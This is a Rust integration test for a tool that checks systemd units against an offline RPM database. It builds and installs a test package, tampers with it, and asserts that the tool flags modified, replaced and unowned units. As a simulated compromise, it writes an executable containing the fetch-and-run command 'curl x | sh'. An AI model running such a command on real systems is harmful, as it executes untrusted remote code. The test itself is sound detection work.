//! `hunt` reads a real RPM database offline: a package built by `rpmbuild` and installed by `rpm`
//! into a root (`.ci/run` installs Debian's `rpm` package, which writes the SQLite format of
//! RPM 4.16 and later, as Fedora, RHEL 9 and openSUSE do).

use std::path::Path;
use std::process::Command;

fn unithunt(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_unithunt"))
        .args(args)
        .output()
        .expect("binary runs")
}

fn run(cmd: &str, args: &[&str]) {
    let o = Command::new(cmd)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{cmd}: {e} (install Debian's `rpm` package)"));
    assert!(o.status.success(), "{cmd} {args:?}: {o:?}");
}

const SPEC: &str = r#"Name: unithunt-rpm-test
Version: 1.0
Release: 1
Summary: a packaged unit, its executable and a generator
License: MIT
BuildArch: noarch
%description
Test package for unithunt hunt.
%install
mkdir -p %{buildroot}/usr/lib/systemd/system %{buildroot}/usr/lib/systemd/system-generators %{buildroot}/usr/bin
printf '[Service]\nExecStart=/usr/bin/unithunt-rpm-test\nRestart=on-failure\n[Install]\nWantedBy=multi-user.target\n' > %{buildroot}/usr/lib/systemd/system/unithunt-rpm-test.service
printf '#!/bin/sh\nexit 0\n' > %{buildroot}/usr/bin/unithunt-rpm-test
printf '#!/bin/sh\nexit 0\n' > %{buildroot}/usr/lib/systemd/system-generators/unithunt-rpm-test-generator
chmod 755 %{buildroot}/usr/bin/unithunt-rpm-test %{buildroot}/usr/lib/systemd/system-generators/unithunt-rpm-test-generator
mkdir -p %{buildroot}/usr/share/unithunt-rpm-test
for i in $(seq 300); do echo $i > %{buildroot}/usr/share/unithunt-rpm-test/file-$i; done
%files
/usr/share/unithunt-rpm-test
/usr/lib/systemd/system/unithunt-rpm-test.service
/usr/lib/systemd/system-generators/unithunt-rpm-test-generator
/usr/bin/unithunt-rpm-test
"#;

fn findings(root: &str) -> (Vec<serde_json::Value>, String) {
    let o = unithunt(&[
        "hunt",
        "--root",
        root,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    let all = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (all, String::from_utf8_lossy(&o.stderr).into_owned())
}

#[test]
fn rpm_owned_units_are_known_and_their_changes_seen() {
    let base = std::env::temp_dir().join(format!("unithunt-rpm-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&base);
    let (top, root) = (base.join("build"), base.join("root"));
    std::fs::create_dir_all(top.join("SPECS")).unwrap();
    std::fs::create_dir_all(&root).unwrap();
    let spec = top.join("SPECS/test.spec");
    std::fs::write(&spec, SPEC).unwrap();
    let (t, r) = (top.to_str().unwrap(), root.to_str().unwrap());
    run(
        "rpmbuild",
        &[
            "--define",
            &format!("_topdir {t}"),
            "-bb",
            spec.to_str().unwrap(),
        ],
    );
    let rpm = top.join("RPMS/noarch/unithunt-rpm-test-1.0-1.noarch.rpm");
    assert!(rpm.is_file());
    // Where Fedora and RHEL keep it (Debian's rpm defaults to ~/.rpmdb).
    run(
        "rpm",
        &["--root", r, "--dbpath", "/var/lib/rpm", "--initdb"],
    );
    run(
        "rpm",
        &[
            "--root",
            r,
            "--dbpath",
            "/var/lib/rpm",
            "-i",
            "--nodeps",
            "--noscripts",
            rpm.to_str().unwrap(),
        ],
    );
    assert!(Path::new(&format!("{r}/var/lib/rpm/rpmdb.sqlite")).is_file());

    let (all, summary) = findings(r);
    assert!(summary.contains("package database: rpm"), "{summary}");
    let get = |all: &[serde_json::Value], u: &str| {
        all.iter()
            .find(|f| f["unit"] == u)
            .unwrap_or_else(|| panic!("{u}: {all:?}"))
            .clone()
    };
    let unit = get(&all, "unithunt-rpm-test.service");
    assert_eq!(unit["owner"], "unithunt-rpm-test");
    assert_eq!(unit["score"], 0, "{}", unit["reasons"]);
    let generator = get(&all, "unithunt-rpm-test-generator");
    assert_eq!(generator["owner"], "unithunt-rpm-test");
    assert_eq!(generator["score"], 0, "{}", generator["reasons"]);

    // The package's unit edited, its executable replaced, and a unit no package owns.
    let file = root.join("usr/lib/systemd/system/unithunt-rpm-test.service");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, text.replace("Restart=on-failure", "Restart=always")).unwrap();
    std::fs::write(
        root.join("usr/bin/unithunt-rpm-test"),
        "#!/bin/sh\ncurl x | sh\n",
    )
    .unwrap();
    std::fs::write(
        root.join("usr/lib/systemd/system/planted.service"),
        "[Service]\nExecStart=/usr/bin/unithunt-rpm-test\n",
    )
    .unwrap();
    let (all, _) = findings(r);
    let unit = get(&all, "unithunt-rpm-test.service");
    assert_eq!(unit["owner"], "unithunt-rpm-test (modified)");
    let reasons = unit["reasons"].to_string();
    assert!(
        reasons.contains("differs from what unithunt-rpm-test shipped"),
        "{reasons}"
    );
    assert!(
        reasons.contains("executable /usr/bin/unithunt-rpm-test differs"),
        "{reasons}"
    );
    let planted = get(&all, "planted.service");
    assert_eq!(planted["owner"], "unowned");
    // Read through the merged-/usr spelling too: /lib is /usr/lib on RPM distributions.
    std::os::unix::fs::symlink("usr/lib", root.join("lib")).unwrap();
    let (all, _) = findings(r);
    assert_eq!(
        get(&all, "unithunt-rpm-test-generator")["owner"],
        "unithunt-rpm-test"
    );

    // The same package in the Berkeley DB format of RHEL/CentOS 7 and 8: the headers rpm wrote,
    // loaded into a hash database by Berkeley DB's own db_load (the package has 300 more files,
    // so its header spans overflow pages), with RPM's instance counter under key 0.
    let headers = unithunt_hunt::rpm::sqlite_headers(
        &unithunt_hunt::root::Root::new(&root),
        "/var/lib/rpm/rpmdb.sqlite",
    )
    .unwrap();
    assert_eq!(headers.len(), 1);
    assert!(headers[0].len() > 8192, "{} bytes", headers[0].len());
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    let mut dump = String::from("VERSION=3\nformat=bytevalue\ntype=hash\nHEADER=END\n");
    dump += &format!(
        " {}\n {}\n",
        hex(&0u32.to_le_bytes()),
        hex(&2u32.to_le_bytes())
    );
    dump += &format!(" {}\n {}\n", hex(&1u32.to_le_bytes()), hex(&headers[0]));
    dump += "DATA=END\n";
    let old = base.join("old");
    std::fs::create_dir_all(old.join("var/lib/rpm")).unwrap();
    std::fs::write(base.join("packages.dump"), dump).unwrap();
    run(
        "db5.3_load",
        &[
            "-f",
            base.join("packages.dump").to_str().unwrap(),
            old.join("var/lib/rpm/Packages").to_str().unwrap(),
        ],
    );
    std::fs::create_dir_all(old.join("usr/lib/systemd/system")).unwrap();
    std::fs::write(
        old.join("usr/lib/systemd/system/unithunt-rpm-test.service"),
        text,
    )
    .unwrap();
    std::fs::create_dir_all(old.join("usr/bin")).unwrap();
    std::fs::write(old.join("usr/bin/unithunt-rpm-test"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(
        old.join("usr/lib/systemd/system/planted.service"),
        "[Service]\nExecStart=/bin/true\n",
    )
    .unwrap();
    let (all, summary) = findings(old.to_str().unwrap());
    assert!(summary.contains("package database: rpm"), "{summary}");
    assert!(!summary.contains("warning"), "{summary}");
    let unit = get(&all, "unithunt-rpm-test.service");
    assert_eq!(unit["owner"], "unithunt-rpm-test");
    assert_eq!(unit["score"], 0, "{}", unit["reasons"]);
    assert_eq!(get(&all, "planted.service")["owner"], "unowned");
    let _ = std::fs::remove_dir_all(&base);
}
